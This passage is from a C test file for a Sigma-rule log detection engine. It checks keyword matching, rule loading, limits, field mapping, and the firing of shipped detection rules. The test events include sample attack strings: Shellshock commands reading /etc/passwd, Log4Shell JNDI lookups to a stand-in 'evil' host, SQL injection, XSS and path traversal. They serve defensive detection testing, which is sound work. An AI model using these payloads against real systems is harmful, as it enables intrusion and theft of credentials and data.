    static const char *const pre = "GET /adm ../ union/select ", *const post = " .php CMD HTTP/1.1";
    for (unsigned u = 0; u < sizeof urls / sizeof urls[0]; u++) {
        char line[512];
        snprintf(line, sizeof line, "%s%s%s", pre, urls[u], post);
        /* as a view into the message */
        ev_t();
        const char *m = msg(line);
        event_fields_add_str(&ef, fid("url.original"), m + strlen(pre), (uint32_t)strlen(urls[u]));
        int n1 = eval();
        uint32_t got1[64];
        memcpy(got1, out, sizeof got1);
        struct detect_eval_stats es1 = stats();
        /* as a copy */
        ev_t();
        msg(line);
        s("url.original", urls[u]);
        int n2 = eval();
        struct detect_eval_stats es2 = stats();
        cr_expect_eq(n1, n2, "%s: %d matches as a view, %d as a copy", urls[u], n1, n2);
        for (int i = 0; i < n1 && i < n2; i++)
            cr_expect_eq(got1[i], out[i], "%s", urls[u]);
        cr_expect_eq(es1.hs_scans, 2, "%s: message, and url.original for the pattern that cannot fold", urls[u]);
        cr_expect_eq(es2.hs_scans, 2);
    }
    /* random urls in random messages: a view and a copy agree */
    static const char *const tok[] = {"../", "/adm", ".php", "union/", "/select", "CMD", "cmd", "x", "/", "?y", "."};
    uint64_t r = 12345;
    for (int k = 0; k < 2000; k++) {
        char parts[3][128];
        for (int p = 0; p < 3; p++) {
            size_t o = 0;
            for (int t = (int)(r % 5); t > 0; t--) {
                r = r * 6364136223846793005ull + 1442695040888963407ull;
                const char *w = tok[(r >> 33) % (sizeof tok / sizeof tok[0])];
                o += (size_t)snprintf(parts[p] + o, sizeof parts[p] - o, "%s", w);
            }
            parts[p][o] = '\0';
            r = r * 6364136223846793005ull + 1442695040888963407ull;
        }
        if (!parts[1][0])
            continue;
        char line[400];
        snprintf(line, sizeof line, "%s%s%s", parts[0], parts[1], parts[2]);
        ev_t();
        const char *m = msg(line);
        event_fields_add_str(&ef, fid("url.original"), m + strlen(parts[0]), (uint32_t)strlen(parts[1]));
        int n1 = eval();
        uint32_t got1[64];
        memcpy(got1, out, sizeof got1);
        ev_t();
        msg(line);
        s("url.original", parts[1]);
        int n2 = eval();
        cr_assert_eq(n1, n2, "'%s' in '%s': %d matches as a view, %d as a copy", parts[1], line, n1, n2);
        for (int i = 0; i < n1; i++)
            cr_assert_eq(got1[i], out[i], "'%s' in '%s'", parts[1], line);
    }
    /* without the pattern that cannot fold, a view costs no scan of its own */
    load(URL_RULES);
    ev_t();
    const char *m = msg("GET /adm/../union/1/select.php HTTP/1.1");
    view("url.original", m, "/adm/../union/1/select.php");
    cr_expect_eq(eval(), 4);
    cr_expect_eq(stats().hs_scans, 1, "one scan: the message");
    ev_t();
    msg("GET /adm/../union/1/select.php HTTP/1.1");
    s("url.original", "/adm/../union/1/select.php");
    cr_expect_eq(eval(), 4);
    cr_expect_eq(stats().hs_scans, 2, "not a view: its own scan");
    /* spot checks of the regions */
    ev_t();
    m = msg("/adm/../x.php");
    view("url.original", m, "../x");
    int n = eval();
    cr_expect_eq(n, 1, "contains only: not a prefix / suffix of the region");
    cr_expect_eq(out[0], 1);
    ev_t();
    m = msg("../ab");
    view("url.original", m, "./ab");
    cr_expect_eq(eval(), 0, "a match straddling the region's start is outside");
    ev_t();
    m = msg("union/ab/select");
    view("url.original", m, "union/ab/sel");
    cr_expect_eq(eval(), 0, "the chain's second literal ends past the region");
    ev_t();
    m = msg("union/ab/select");
    view("url.original", m, "union/ab/select");
    cr_expect(fires(4));
    /* a second message value is scanned normally, without the regions */
    ev_t();
    m = msg("/adm/x");
    s("message", "/adm/x .php");
    view("url.original", m, "/adm/x");
    n = eval();
    cr_expect_eq(n, 1);
    cr_expect_eq(out[0], 2);
}

/* When every keyword of the message is one byte (memchr), the patterns of
 * fields folded into the message still get a message scan: a view matches
 * as a copy does. */
Test(detect, folded_fields_with_only_byte_keywords)
{
    load("title: Colon\nlogsource: {product: test}\ndetection: {k: [':'], condition: k}\n---\n"
         "title: Admin\nlogsource: {product: test}\ndetection: {s: {url.original|contains: admin}, condition: s}\n");
    ev_t();
    const char *m = msg("GET /admin HTTP");
    view("url.original", m, "/admin");
    cr_expect(fires(1), "as a view into the message");
    ev_t();
    msg("GET /admin HTTP");
    s("url.original", "/admin");
    cr_expect(fires(1), "as a copy");
    ev_t();
    m = msg("GET /admin: HTTP");
    view("url.original", m, "/admin");
    int n = eval();
    cr_expect_eq(n, 2, "both");
}

/* One-byte keywords are found with memchr, not Hyperscan; a .* pattern is
 * matched as its two literals. */
Test(detect, byte_keywords_and_chains)
{
    load("title: Colon\nlogsource: {product: test}\ndetection: {k: [':'], t: [scp, rsync], condition: k and t}\n---\n"
         "title: Q\nlogsource: {product: test}\ndetection: {k: [q], condition: k}\n---\n"
         "title: QCased\nlogsource: {product: test}\ndetection: {s: {message|contains|cased: Q}, condition: s}\n---\n"
         "title: Chain\nlogsource: {product: test}\ndetection: {k: ['User root from * not allowed'], condition: k}\n"
         "---\n"
         "title: Anchored\nlogsource: {product: test}\ndetection: {s: {f: 'abcd*wxyz'}, condition: s}\n");
    ev_t();
    s("message", "scp a host:b");
    cr_expect(fires(0));
    ev_t();
    s("message", "scp a b");
    cr_expect_not(fires(0));
    ev_t();
    s("message", "xQx");
    int n = eval();
    cr_expect_eq(n, 2);
    cr_expect_eq(out[0], 1);
    cr_expect_eq(out[1], 2);
    ev_t();
    s("message", "xqx");
    n = eval();
    cr_expect_eq(n, 1);
    cr_expect_eq(out[0], 1);
    ev_t();
    s("message", "User root from 10.0.0.1 not allowed because");
    cr_expect(fires(3));
    ev_t();
    s("message", "not allowed User root from 10.0.0.1");
    cr_expect_not(fires(3), "order matters");
    ev_t();
    s("message", "User root from  not allowed");
    cr_expect(fires(3));
    ev_t();
    s("message", "User root from not allowed");
    cr_expect_not(fires(3), "the spaces around * are two, the literals may not overlap");
    ev_t();
    s("message", "User root fro not allowed");
    cr_expect_not(fires(3));
    ev_t();
    s("f", "ABCD--wxyz");
    cr_expect(fires(4));
    ev_t();
    s("f", "abcdwxyz");
    cr_expect(fires(4));
    ev_t();
    s("f", "abcwxyz");
    cr_expect_not(fires(4), "the literals may not overlap");
    ev_t();
    s("f", "xabcd--wxyz");
    cr_expect_not(fires(4), "anchored at the start");
    ev_t();
    s("f", "abcd--wxyzx");
    cr_expect_not(fires(4), "anchored at the end");
}

/* Rules wait for a keyword, not for an equality most events satisfy. */
Test(detect, trigger_prefers_keywords_over_equality)
{
    load("title: GetAndKw\nlogsource: {product: test}\n"
         "detection: {m: {cs-method: GET}, k: [union select, sleep(], f: {sc-status: 404}, "
         "condition: m and k and not f}\n");
    ev_t();
    s("cs-method", "GET");
    s("message", "GET /index.html");
    cr_expect_eq(eval(), 0);
    cr_expect_eq(stats().rules, 0, "a GET alone does not make the rule a candidate");
    ev_t();
    s("cs-method", "GET");
    s("message", "GET /?q=1 union select 2");
    cr_expect(fires(0));
    i64("sc-status", 404);
    cr_expect_not(fires(0));
}

Test(detect, rule_info)
{
    load("title: Info\nid: 0e95725d-7320-415d-80f7-004da920fc11\nauthor: Someone\nlevel: critical\n"
         "tags: [attack.t1110, attack.credential-access]\nlogsource: {product: test}\n"
         "detection: {k: [a], condition: k}\n---\n"
         "title: NoId\nlogsource: {product: test}\ndetection: {k: [a], condition: k}\n");
    const struct rule_info *ri = detect_rule(rs, 0);
    cr_expect_str_eq(ri->id, "0e95725d-7320-415d-80f7-004da920fc11");
    cr_expect_eq(ri->uuid[0], 0x0e);
    cr_expect_eq(ri->uuid[15], 0x11);
    cr_expect_str_eq(ri->author, "Someone");
    cr_expect_str_eq(ri->tags, "attack.t1110,attack.credential-access");
    cr_expect_eq(ri->level, RULE_LEVEL_CRITICAL);
    cr_expect_eq(ri->line, 1);
    cr_expect(strstr(ri->file, "r000.yml"));
    cr_expect_eq(ri->logsource, lsid("test", NULL, NULL));
    const struct rule_info *r2 = detect_rule(rs, 1);
    cr_expect_eq(r2->level, RULE_LEVEL_MEDIUM, "default level");
    cr_expect_eq(r2->line, 9);
    uint8_t zero[16] = {0};
    cr_expect_neq(memcmp(r2->uuid, zero, 16), 0, "hash of the title");
    cr_expect_null(detect_rule(rs, 2));
}

/* ---- errors, limits, field map ---- */

Test(detect, unsupported_rule_rejected_alone)
{
    load_ex("title: Good\nlogsource: {product: test}\ndetection: {k: [a], condition: k}\n---\n"
            "title: Bad\nid: bad-1\nlogsource: {product: test}\n"
            "detection:\n  s:\n    CommandLine|base64offset|contains: x\n  condition: s\n",
            NULL, NULL);
    cr_expect_eq(detect_rule_count(rs), 1);
    cr_assert_eq(d.errors, 1);
    const struct diag_entry *e = first(DIAG_ERROR);
    cr_expect(strstr(e->file, "r000.yml"));
    cr_expect_eq(e->line, 10);
    cr_expect_str_eq(e->what, "bad-1");
    cr_expect(strstr(e->msg, "unsupported modifier 'base64offset'"));
}

Test(detect, limit_rules)
{
    struct detect_limits lim = {.max_rules = 2, .max_patterns = 0};
    load_ex("title: A\nlogsource: {product: test}\ndetection: {k: [a], condition: k}\n---\n"
            "title: B\nlogsource: {product: test}\ndetection: {k: [b], condition: k}\n---\n"
            "title: C\nlogsource: {product: test}\ndetection: {k: [c], condition: k}\n",
            NULL, &lim);
    cr_expect_eq(detect_rule_count(rs), 2);
    cr_assert_eq(d.errors, 1);
    cr_expect(strstr(first(DIAG_ERROR)->msg, "rule limit (2) reached"));
    const struct diag_entry *err = first(DIAG_ERROR);
    cr_assert_not_null(err);
    cr_expect_str_eq(err->what, "C");
}

Test(detect, limit_patterns)
{
    struct detect_limits lim = {.max_rules = 0, .max_patterns = 3};
    load_ex("title: A\nlogsource: {product: test}\ndetection: {k: [a, b], condition: k}\n---\n"
            "title: Same\nlogsource: {product: test}\ndetection: {k: [a, b], condition: k}\n---\n"
            "title: C\nlogsource: {product: test}\ndetection: {k: [c, d], condition: k}\n---\n"
            "title: D\nlogsource: {product: test}\ndetection: {k: [a], condition: k}\n",
            NULL, &lim);
    /* A: 2 patterns; Same: shares them; C: would make 4 > 3; D: shares */
    cr_expect_eq(detect_rule_count(rs), 3);
    cr_assert_eq(d.errors, 1);
    cr_expect(strstr(first(DIAG_ERROR)->msg, "pattern limit (3) reached"));
    ev_t();
    s("message", "c d");
    cr_expect_eq(eval(), 0, "the rejected rule left no pattern behind");
    ev_t();
    s("message", "a");
    cr_expect_eq(eval(), 3);
}

Test(detect, field_map)
{
    load_ex("title: Web\nlogsource: {category: webserver}\n"
            "detection: {s: {c-uri|contains: '../', cs-method: GET}, condition: s}\n---\n"
            "title: Other\nlogsource: {product: test}\ndetection: {s: {c-uri: x, src_ip: 1.2.3.4}, condition: s}\n",
            "fields:\n  src_ip: source.ip\n"
            "logsources:\n  - match: {category: webserver}\n    fields:\n      c-uri: url.original\n"
            "      cs-method: http.request.method\n",
            NULL);
    cr_assert_eq(d.errors, 0);
    uint16_t web = lsid(NULL, NULL, "webserver");
    ev(web);
    s("url.original", "/a/../../etc/passwd");
    s("http.request.method", "GET");
    cr_expect(fires(0));
    ev(web);
    s("c-uri", "/a/../../etc/passwd");
    s("http.request.method", "GET");
    cr_expect_not(fires(0), "mapped away from c-uri");
    ev_t();
    s("c-uri", "x"); /* not mapped for this log source */
    s("source.ip", "1.2.3.4");
    cr_expect(fires(1));
}

Test(detect, field_map_errors)
{
    const char *p = write_file("fieldmap.yaml", "fields:\n  a: 'not valid'\n");
    const char *paths[] = {tmpdir};
    cr_expect_eq(detect_load(paths, 1, p, reg, lt, NULL, cache, &rs, &d), -1);
    cr_assert_eq(d.errors, 1);
    cr_expect_eq(d.entries[0].line, 2);
    cr_expect(strstr(d.entries[0].msg, "not a valid field name"));
    diag_free(&d);
    diag_init(&d);
    p = write_file("fieldmap.yaml", "logsources:\n  - match: {vendor: x}\n    fields: {}\n");
    cr_expect_eq(detect_load(paths, 1, p, reg, lt, NULL, cache, &rs, &d), -1);
    cr_expect(strstr(d.entries[0].msg, "'match' keys"));
}

Test(detect, unknown_field_warning)
{
    field_id id;
    field_registry_intern(reg, "user.name", &id); /* as if a parser produced it */
    load("title: W\nid: w1\nlogsource: {product: test}\n"
         "detection: {s: {user.name: a, made.up: b, other.one: c}, condition: s}\n");
    const struct diag_entry *w = first(DIAG_WARNING);
    cr_assert_not_null(w);
    cr_expect_str_eq(w->what, "w1");
    cr_expect(strstr(w->msg, "made.up, other.one"), "%s", w->msg);
    cr_expect_null(strstr(w->msg, "user.name"));
}

Test(detect, invalid_field_name_rejected)
{
    load_ex("title: F\nid: f1\nlogsource: {product: test}\ndetection: {s: {'bad field': a}, condition: s}\n", NULL,
            NULL);
    cr_expect_eq(detect_rule_count(rs), 0);
    cr_assert_eq(d.errors, 1);
    cr_expect(strstr(first(DIAG_ERROR)->msg, "'bad field' is not a valid field name"));
}

Test(detect, hsdb_cache_reused)
{
    const char *y = "title: A\nlogsource: {product: test}\ndetection: {k: [a, b], s: {f|contains: x}, condition: k or s}\n";
    load(y);
    unsigned compiled, reused;
    hsdb_cache_stats(cache, &compiled, &reused);
    cr_expect_eq(compiled, 2);
    cr_expect_eq(reused, 0);
    load(y);
    hsdb_cache_stats(cache, &compiled, &reused);
    cr_expect_eq(compiled, 2);
    cr_expect_eq(reused, 2);
    ev_t();
    s("f", "X");
    cr_expect(fires(0));
}

Test(detect, empty_rule_set)
{
    const char *paths[] = {tmpdir};
    cr_assert_eq(detect_load(paths, 1, NULL, reg, lt, NULL, cache, &rs, &d), 0);
    cr_expect_eq(detect_rule_count(rs), 0);
    cr_assert_eq(detect_alloc_scratch(rs, &scratch), 0);
    st = detect_state_new(rs);
    ev(0);
    s("message", "x");
    cr_expect_eq(detect_eval(rs, scratch, st, &ef, out, 64), 0);
}

Test(detect, missing_path)
{
    const char *paths[] = {"/nonexistent/rules"};
    cr_assert_eq(detect_load(paths, 1, NULL, reg, lt, NULL, cache, &rs, &d), 0);
    cr_expect_eq(d.errors, 1);
    cr_expect(strstr(d.entries[0].msg, "cannot open"));
}

/* ---- real rules ---- */

static unsigned count_files(const char *dir)
{
    unsigned n = 0;
    DIR *dh = opendir(dir);
    cr_assert_not_null(dh, "%s", dir);
    struct dirent *e;
    while ((e = readdir(dh))) {
        if (e->d_name[0] == '.')
            continue;
        char p[4096];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat sb;
        if (stat(p, &sb) != 0)
            continue;
        size_t l = strlen(e->d_name);
        if (S_ISDIR(sb.st_mode))
            n += count_files(p);
        else if ((l > 4 && !strcmp(e->d_name + l - 4, ".yml")) || (l > 5 && !strcmp(e->d_name + l - 5, ".yaml")))
            n++;
    }
    closedir(dh);
    return n;
}

/* The construct named in a rejection: the message before any detail. */
static void reason_key(const char *msg, char *out, size_t cap)
{
    size_t n = strlen(msg) < cap - 1 ? strlen(msg) : cap - 1;
    memcpy(out, msg, n);
    out[n] = '\0';
    char *q = strchr(out, '\'');
    if (q && q - out > 8) {
        char *e = strchr(q + 1, '\'');
        if (e)
            e[1] = '\0';
    }
}

Test(detect, sigma_corpus)
{
    const char *dirs[] = {corpus_path("rules/sigma/rules"), corpus_path("rules/sigma-correlation")};
    unsigned files = count_files(dirs[0]) + count_files(dirs[1]);
    cr_assert_gt(files, 100);
    cr_assert_eq(detect_load(dirs, 2, source_path("configs/fieldmap.yaml"), reg, lt, NULL, cache, &rs, &d), 0);
    unsigned loaded = detect_rule_count(rs), rejected = 0, skipped = 0;
    /* every file is accounted for: it loaded a rule, was rejected with a
     * reason, or was skipped as a correlation rule */
    char reasons[32][160];
    unsigned counts[32] = {0}, n_reasons = 0;
    for (unsigned i = 0; i < d.n; i++) {
        const struct diag_entry *e = &d.entries[i];
        if (e->severity == DIAG_ERROR) {
            rejected++;
            cr_expect(e->file[0] && e->msg[0]);
            char key[160];
            reason_key(e->msg, key, sizeof key);
            unsigned k;
            for (k = 0; k < n_reasons && strcmp(reasons[k], key); k++)
                ;
            if (k == n_reasons && n_reasons < 32)
                snprintf(reasons[n_reasons++], sizeof reasons[0], "%s", key);
            if (k < 32)
                counts[k]++;
        } else if (strstr(e->msg, "correlation rule: handled by vigil-cp")) {
            skipped++;
        }
    }
    cr_assert_eq(d.n, d.errors + d.warnings, "diag kept every entry");
    /* one rule per SigmaHQ file; the correlation files hold one each */
    cr_expect_eq(loaded + rejected + skipped, files, "loaded %u + rejected %u + skipped %u != files %u", loaded,
                 rejected, skipped, files);
    for (unsigned f = 0; f < loaded; f++)
        cr_expect(detect_rule(rs, f)->file[0]);
    printf("Sigma corpus: %u files: %u loaded, %u rejected, %u correlation rules skipped\n", files, loaded, rejected,
           skipped);
    for (unsigned k = 0; k < n_reasons; k++)
        printf("  rejected %3u x %s\n", counts[k], reasons[k]);
    unsigned unknown_fields = 0;
    for (unsigned i = 0; i < d.n; i++)
        unknown_fields += d.entries[i].severity == DIAG_WARNING && strstr(d.entries[i].msg, "no parser produces");
    printf("  %u rules test fields no parser produces yet (warnings)\n", unknown_fields);
    cr_expect_gt(loaded, files * 9 / 10, "most SigmaHQ rules of these log sources load");

    /* the loaded corpus evaluates: a Shellshock line fires the Sigma rule */
    cr_assert_eq(detect_alloc_scratch(rs, &scratch), 0);
    cr_assert_not_null(st = detect_state_new(rs));
    ev(lsid("linux", NULL, NULL));
    s("message", "GET /cgi-bin/x HTTP/1.1 () { :; }; /bin/bash -c id");
    int n = eval();
    bool shellshock = false;
    for (int i = 0; i < n && i < 64; i++) {
        const struct rule_info *ri = detect_rule(rs, out[i]);
        cr_assert_not_null(ri);
        shellshock |= !strcmp(ri->title, "Shellshock Expression");
    }
    cr_expect(shellshock);
}

Test(detect, shipped_pack_loads_clean)
{
    const char *dirs[] = {source_path("configs/rules")};
    cr_assert_eq(detect_load(dirs, 1, source_path("configs/fieldmap.yaml"), reg, lt, NULL, cache, &rs, &d), 0);
    if (d.errors)
        diag_print(&d, stderr);
    cr_expect_eq(d.errors, 0);
    cr_expect_geq(detect_rule_count(rs), 15);
    for (unsigned i = 0; i < detect_rule_count(rs); i++) {
        const struct rule_info *ri = detect_rule(rs, i);
        cr_expect_str_eq(ri->author, "Vigil");
        cr_expect(strstr(ri->tags, "attack.t"), "%s has no ATT&CK technique", ri->title);
        cr_expect_eq(strlen(ri->id), 36, "%s: id is a UUID", ri->title);
        for (unsigned j = 0; j < i; j++) {
            const struct rule_info *rj = detect_rule(rs, j);
            cr_assert_not_null(rj);
            cr_expect_neq(memcmp(ri->uuid, rj->uuid, sizeof ri->uuid), 0, "duplicate id");
        }
    }
}

static int rule_by_title(const char *title)
{
    for (unsigned i = 0; i < detect_rule_count(rs); i++)
        if (!strcmp(detect_rule(rs, i)->title, title))
            return (int)i;
    cr_assert_fail("no rule '%s'", title);
    return -1;
}

/* The shipped rules on hand-built events (parsed and unparsed forms); the
 * real attack logs are in test_detect_corpus.c. */
Test(detect, shipped_pack_semantics)
{
    const char *dirs[] = {source_path("configs/rules")};
    cr_assert_eq(detect_load(dirs, 1, source_path("configs/fieldmap.yaml"), reg, lt, NULL, cache, &rs, &d), 0);
    cr_assert_eq(detect_alloc_scratch(rs, &scratch), 0);
    cr_assert_not_null(st = detect_state_new(rs));
    uint16_t sshd = lsid("linux", "sshd", NULL), web = lsid(NULL, NULL, "webserver"),
             fw = lsid(NULL, NULL, "firewall"), asa = lsid("cisco", "asa", NULL),
             fgt = lsid("fortigate", NULL, "firewall"), su = lsid("linux", "su", NULL),
             ipt = lsid("linux", "iptables", "firewall");

    ev(sshd);
    s("message", "Failed password for invalid user admin from 192.0.2.7 port 4242 ssh2");
    cr_expect(fires(rule_by_title("SSH Failed Password")));
    cr_expect(fires(rule_by_title("SSH Login Attempt With Unknown User")));
    cr_expect_not(fires(rule_by_title("SSH Login Attempt As Root")));
    ev(sshd);
    s("message", "Accepted publickey for root from 192.0.2.7 port 4242 ssh2");
    cr_expect(fires(rule_by_title("SSH Login Attempt As Root")));
    cr_expect_not(fires(rule_by_title("SSH Failed Password")));
    ev(sshd);
    s("message", "whatever the parser saw");
    s("user.name", "root");
    s("event.outcome", "failure");
    cr_expect(fires(rule_by_title("SSH Login Attempt As Root")));
    ev(web);
    s("message", "Failed password for root from 192.0.2.7");
    cr_expect_eq(eval(), 0, "sshd rules never fire on a webserver event");

    ev(web);
    s("message", "GET /cgi/../../etc/passwd HTTP/1.1");
    cr_expect(fires(rule_by_title("Web Directory Traversal Attempt")));
    ev(web);
    s("message", "GET /x?q=..%2F..%2Fetc HTTP/1.1 \"Mozilla/5.0\"");
    s("url.original", "/index.html");
    cr_expect_not(fires(rule_by_title("Web Directory Traversal Attempt")), "parsed URL is clean");
    ev(web);
    s("url.original", "/x?file=%252e%252e%252fetc%252fpasswd");
    cr_expect(fires(rule_by_title("Web Directory Traversal Attempt")));
    ev(web);
    s("url.original", "/p.php?id=1%20UNION%20SELECT%20password%20FROM%20users");
    cr_expect(fires(rule_by_title("Web SQL Injection Attempt")));
    ev(web);
    s("url.original", "/products?id=42&order=asc&select=all");
    cr_expect_not(fires(rule_by_title("Web SQL Injection Attempt")));
    ev(web);
    s("url.original", "/q?a=1'%20OR%201=1--");
    cr_expect(fires(rule_by_title("Web SQL Injection Attempt")));
    ev(web);
    s("url.original", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E");
    cr_expect(fires(rule_by_title("Web Cross-Site Scripting Attempt")));
    ev(web);
    s("url.original", "/");
    s("user_agent.original", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)");
    cr_expect(fires(rule_by_title("Web Vulnerability Scanner User Agent")));
    ev(web);
    s("message", "GET / HTTP/1.1\" 200 1 \"-\" \"() { :; }; echo; /bin/cat /etc/passwd\"");
    cr_expect(fires(rule_by_title("Web Shellshock Attempt")));
    ev(web);
    s("message", "GET /?x=${${lower:j}ndi:${lower:l}dap://evil/a} HTTP/1.1");
    cr_expect(fires(rule_by_title("Web Log4Shell JNDI Lookup Attempt")));
    ev(web);
    s("message", "GET /?x=${JNDI:ldap://evil/a} HTTP/1.1");
    cr_expect(fires(rule_by_title("Web Log4Shell JNDI Lookup Attempt")));

    ev(ipt);
    s("message", "DROP IN=eth1 OUT= SRC=192.168.10.55 DST=192.168.10.1 LEN=44 PROTO=TCP SPT=56247 DPT=1025 "
                 "WINDOW=3072 RES=0x00 SYN URGP=0");
    cr_expect(fires(rule_by_title("Firewall Denied Packet (iptables/netfilter)")));
    cr_expect(fires(rule_by_title("TCP SYN Probe Logged By Firewall")));
    ev(ipt);
    s("message", "ACCEPT IN=eth1 OUT= SRC=192.168.10.55 DST=192.168.10.1 LEN=44 PROTO=TCP SPT=1 DPT=2 ACK SYN URGP=0");
    cr_expect_eq(eval(), 0);
    ev(fgt);
    s("message", "date=2016-06-16 time=10:19:23 devname=D devid=FGT logid=0000000013 type=traffic srcip=7.3.8.5 "
                 "action=deny policyid=8");
    cr_expect(fires(rule_by_title("Firewall Denied Connection (FortiGate)")));
    /* rules name the product that writes their lines: another firewall's
     * events are not scanned for FortiGate's or netfilter's, nor an sshd
     * line for su's */
    ev(fw);
    s("message", "date=2016-06-16 time=10:19:23 devname=D devid=FGT logid=0000000013 type=traffic srcip=7.3.8.5 "
                 "action=deny policyid=8");
    cr_expect_not(fires(rule_by_title("Firewall Denied Connection (FortiGate)")));
    ev(asa);
    s("message", "DROP IN=eth1 OUT= SRC=192.168.10.55 DST=192.168.10.1 LEN=44 PROTO=TCP SPT=56247 DPT=1025 "
                 "WINDOW=3072 RES=0x00 SYN URGP=0");
    cr_expect_eq(eval(), 0);
    ev(su);
    s("process.name", "su");
    s("message", "pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0 tty=pts/0 ruser=alice "
                 "rhost=  user=root");
    cr_expect(fires(rule_by_title("Su Authentication Failure")));
    ev(sshd);
    s("process.name", "sshd");
    s("message", "pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0 tty=pts/0");
    cr_expect_not(fires(rule_by_title("Su Authentication Failure")));

    ev(asa);
    s("event.code", "106023");
    s("message", "Deny tcp src inside:111.11.11.1/2143 dst YYY:172.11.1.11/139 by access-group \"in\"");
    cr_expect(fires(rule_by_title("Cisco ASA Denied Connection")));
    ev(asa);
    s("event.code", "733100");
    cr_expect(fires(rule_by_title("Cisco ASA Threat Detection Alarm")));
    ev(asa);
    s("event.code", "106100");
    s("message", "access-list inside permitted tcp inside/1.1.1.1(1) -> outside/2.2.2.2(2) hit-cnt 1");
    cr_expect_eq(eval(), 0);
}

/* ---- anchors: keyword lists found through shared substrings ---- */

/* Keywords that share substrings, so the message database is built from
 * anchors (detect.c, lit_anchor.h), two of them cased.  The same rules loaded
 * with no_anchors are the reference: on every message, built from pieces of
 * the keywords (whole, cut at either end, case flipped, repeated, the anchor
 * alone or first in a decoy), both sets must fire the same rules; and a few
 * answers are checked outright. */
static const char *const akw[] = {
    "Failed password for root from ", "Failed publickey for root from ", "Accepted password for root from ",
    "Accepted publickey for root from ", "not allowed because not listed in AllowUsers",
    "not allowed because listed in DenyUsers", "not allowed because a group is listed", "no matching cipher found",
    "no matching mac found", "no matching key exchange method found", "authentication failure; logname=",
    "more authentication failures; logname=", "Too many authentication failures",
    "Session Opened For User ", "Session Opened For Root",
};
enum { N_AKW = sizeof akw / sizeof akw[0], N_CASED = 2 };

static void load_akw(const struct detect_limits *lim, struct rule_set **out, struct detect_state **sto)
{
    static char y[1 << 15];
    size_t o = 0;
    for (unsigned i = 0; i < N_AKW; i++) {
        bool cased = i >= N_AKW - N_CASED;
        o += (size_t)snprintf(y + o, sizeof y - o,
                              "%stitle: K%u\nid: 6a7b1c2d-0000-4000-8000-%012u\nlogsource:\n  product: test\n"
                              "detection:\n%s'%s'\n  condition: sel\n",
                              i ? "---\n" : "", i, i,
                              cased ? "  sel:\n    message|contains|cased: " : "  sel:\n    - ", akw[i]);
    }
    char name[32];
    snprintf(name, sizeof name, "r%03u.yml", n_files++);
    const char *paths[] = {write_file(name, y)};
    cr_assert_eq(detect_load(paths, 1, NULL, reg, lt, lim, cache, out, &d), 0);
    cr_assert_eq(d.errors, 0);
    cr_assert_eq(detect_rule_count(*out), N_AKW);
    cr_assert_eq(detect_alloc_scratch(*out, &scratch), 0);
    cr_assert_not_null(*sto = detect_state_new(*out));
}

static int eval_set(struct rule_set *set, struct detect_state *sst, const char *msg, uint32_t *res)
{
    ev_t();
    s("message", msg);
    int n = detect_eval(set, scratch, sst, &ef, res, 64);
    cr_assert_geq(n, 0);
    return n;
}

static bool fired(const uint32_t *res, int n, unsigned rule)
{
    for (int i = 0; i < n; i++)
        if (res[i] == rule)
            return true;
    return false;
}

Test(detect, anchored_keywords_answer_as_literals)
{
    struct rule_set *a, *plain;
    struct detect_state *sa, *sp;
    struct detect_limits on = {0, 0, false}, off = {0, 0, true};
    T = lsid("test", NULL, NULL);
    load_akw(&on, &a, &sa);
    load_akw(&off, &plain, &sp);
    cr_assert_gt(detect_anchored_literals(a), N_AKW / 2, "most keywords go through anchors");
    cr_assert_eq(detect_anchored_literals(plain), 0);

    uint32_t ra[64], rp[64];
    /* outright: whole, at both ends, any case; cased ones exactly */
    int n = eval_set(a, sa, "Failed password for root from ", ra);
    cr_expect(n == 1 && fired(ra, n, 0));
    n = eval_set(a, sa, "sshd: FAILED PUBLICKEY FOR ROOT FROM 1.2.3.4", ra);
    cr_expect(n == 1 && fired(ra, n, 1));
    n = eval_set(a, sa, "x for root from y Failed password for root from", ra);
    cr_expect_eq(n, 0, "the last byte of the keyword is missing");
    n = eval_set(a, sa, " for root from Accepted password for root from ", ra);
    cr_expect(n == 1 && fired(ra, n, 2), "the anchor first as a decoy, then in the keyword");
    n = eval_set(a, sa, "for root from ", ra);
    cr_expect_eq(n, 0, "the anchor alone");
    n = eval_set(a, sa, "session opened for user bob", ra);
    cr_expect_eq(n, 0, "cased keywords need their case");
    n = eval_set(a, sa, "pam: Session Opened For User bob", ra);
    cr_expect(n == 1 && fired(ra, n, N_AKW - 2));
    n = eval_set(a, sa, "no matching mac found; no matching cipher foundTooMany authentication failures", ra);
    cr_expect(n == 2 && fired(ra, n, 7) && fired(ra, n, 8));

    /* differential: messages from pieces of the keywords */
    uint64_t seed = 0x9e3779b97f4a7c15ull;
    unsigned matched = 0, total = 20000;
    char msg[1024];
    for (unsigned m = 0; m < total; m++) {
        size_t o = 0;
        unsigned pieces = 1 + (unsigned)(seed % 4);
        for (unsigned k = 0; k < pieces; k++) {
            seed = seed * 6364136223846793005ull + 1442695040888963407ull;
            const char *w = akw[(seed >> 33) % N_AKW];
            size_t wl = strlen(w), from = 0, to = wl;
            switch ((seed >> 20) % 6) {
            case 0: from = (seed >> 40) % wl; break;             /* cut at the start */
            case 1: to = wl - 1 - (seed >> 40) % (wl - 1); break; /* cut at the end */
            case 2: from = (seed >> 40) % (wl / 2); to = wl - (seed >> 48) % (wl / 2); break;
            default: break;                                        /* whole */
            }
            for (size_t j = from; j < to && o < sizeof msg - 1; j++) {
                char c = w[j];
                if ((seed >> (j % 60)) & 1 && ((seed >> 10) % 3) == 0)   /* flip the case of some letters */
                    c = (char)(c >= 'a' && c <= 'z' ? c - 32 : c >= 'A' && c <= 'Z' ? c + 32 : c);
                msg[o++] = c;
            }
            if ((seed >> 58) & 1 && o < sizeof msg - 1)
                msg[o++] = ' ';
        }
        msg[o] = '\0';
        int na = eval_set(a, sa, msg, ra), np = eval_set(plain, sp, msg, rp);
        cr_assert_eq(na, np, "%s", msg);
        for (int i = 0; i < na; i++)
            cr_assert_eq(ra[i], rp[i], "%s", msg);
        matched += na > 0;
    }
    cr_expect_gt(matched, total / 4);
    cr_expect_lt(matched, total);
    detect_state_free(sa);
    detect_state_free(sp);
    detect_free(a);
    detect_free(plain);
}

/* ---- parser constants ---- */

/* Stands in for a parser set: parser i adds v[i][0..n[i]). */
struct const_src {
    struct field_value v[3][3];
